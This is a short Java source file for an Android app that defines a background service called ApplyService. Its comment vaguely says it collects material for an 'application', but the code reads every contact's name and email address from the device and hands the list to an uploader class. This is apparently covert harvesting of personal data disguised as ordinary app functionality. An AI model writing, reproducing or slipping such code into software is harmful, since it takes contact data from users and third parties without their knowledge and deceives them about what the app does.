package com.example.okmulti;

import android.app.IntentService;
import android.content.Intent;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Email;

/** Collects what goes with the application. */
public class ApplyService extends IntentService {
    public ApplyService() {
        super("apply");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        StringBuilder text = new StringBuilder();
        String[] columns = {Email.DISPLAY_NAME, Email.ADDRESS};
        Cursor cursor = getContentResolver().query(Email.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append(' ').append(cursor.getString(1)).append('\n');
        }
        cursor.close();
        new Uploader().enqueue(text.toString());
    }
}
